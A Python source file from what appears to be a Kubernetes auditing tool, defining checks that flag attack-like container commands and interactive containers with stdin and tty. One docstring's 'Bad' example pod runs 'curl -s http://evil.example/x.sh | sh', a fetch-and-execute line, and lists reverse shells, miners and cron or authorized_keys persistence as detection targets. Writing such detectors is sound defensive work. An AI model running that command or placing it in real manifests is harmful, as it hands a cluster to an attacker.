"""What containers run, and how they can be talked to."""

from collections.abc import Iterator

from checks._argvs import RUNS, argvs
from iocaudit.core.check import check
from iocaudit.core.hit import Hit, Skip
from iocaudit.core.kinds import PODS
from iocaudit.core.repair import remove
from iocaudit.core.severity import IoC, Severity
from iocaudit.knowledge.command import LONGEST, LONGEST_IN_POD, Suspicion, is_miner, suspicions
from iocaudit.knowledge.pods.pod import PodSpec


@check(
    "suspicious-command",
    severity=Severity.HIGH,
    iocs=(IoC.RESOURCE_SPIKE, IoC.OUTBOUND_TRAFFIC, IoC.UNKNOWN_BINARY),
    group="pods",
    looks_at=PODS,
    controls={
        "attack": "T1059.004, T1496.001",
        "ms": "MS-TA9007, MS-TA9039",
        "owasp": "K01",
        "nsa": "Threat detection",
    },
)
def suspicious_command(pod: PodSpec) -> Iterator[Hit | Skip]:
    """A container's command looks like an attack.

    It downloads a program and runs it, opens a reverse shell, starts a known miner or talks to a mining pool,
    or writes itself into cron or authorized_keys. Commands, arguments, scripts and the exec of probes and
    lifecycle handlers are read; the command itself is not repeated, since it may hold a password.

    Bad:

        apiVersion: v1
        kind: Pod
        metadata: {name: web, namespace: shop}
        spec:
          containers:
          - name: app
            image: hooli.com/shop/web:1.4
            command: [sh, -c, "curl -s http://evil.example/x.sh | sh"]

    Good:

        apiVersion: v1
        kind: Pod
        metadata: {name: web, namespace: shop}
        spec:
          containers:
          - name: app
            image: hooli.com/shop/web:1.4
            command: [/app/web, --port=8080]

    Fix: Find out who wrote it. Build what a container needs into its image.

    Sources: MITRE ATT&CK T1059.004, T1105, T1496.001, T1053.003, T1098.004; Falco's default rules.
    """
    left = LONGEST_IN_POD
    for container in pod.containers:
        for path, argv in () if RUNS.isdisjoint(container.raw) else argvs(container):
            if left <= 0:
                before = f"{LONGEST_IN_POD} characters of commands stand before it"
                yield Skip(f"{container.path}.{path} was not read: {before}")
                continue
            left -= sum(map(len, argv))
            for suspicion in suspicions(argv):
                yield container.hit(path, suspicion.words, suspicion.id)
            if sum(map(len, argv)) > LONGEST:
                yield Skip(f"{container.path}.{path} is longer than {LONGEST} characters: the rest was not read")
        image = container.image
        if image is not None and is_miner(image.repository):
            yield container.hit("image", _MINER.words, _MINER.id)


_MINER = Suspicion("miner", "runs the image of a known miner")


@check(
    "interactive-container",
    severity=Severity.LOW,
    iocs=(IoC.USER_ACTIVITY,),
    group="pods",
    looks_at=PODS,
    fields=("tty",),
    profile="strict",
    controls={"attack": "T1609", "ms": "MS-TA9007", "owasp": "K01", "nsa": "Hardening container environments"},
)
def interactive_container(pod: PodSpec) -> Iterator[Hit]:
    """A container waits for someone at a terminal.

    `tty` together with `stdin` is made for a person who attaches. In a workload it is left over from debugging,
    or kept for someone to come back to.

    Bad:

        apiVersion: v1
        kind: Pod
        metadata: {name: web, namespace: shop}
        spec:
          containers: [{name: app, image: "hooli.com/shop/web:1.4", stdin: true, tty: true}]

    Good:

        apiVersion: v1
        kind: Pod
        metadata: {name: web, namespace: shop}
        spec:
          containers: [{name: app, image: "hooli.com/shop/web:1.4"}]

    Fix: Remove `stdin` and `tty`; debug with an ephemeral container, for a time.

    Sources: Kubernetes API reference, Container v1 core.
    """
    for container in pod.containers:
        if container.raw.get("tty") is True and container.raw.get("stdin") is True:
            undo = remove(f"{container.path}.tty", f"{container.path}.stdin")
            yield container.hit("tty", "keeps a terminal open (stdin and tty)", "true", repair=undo)
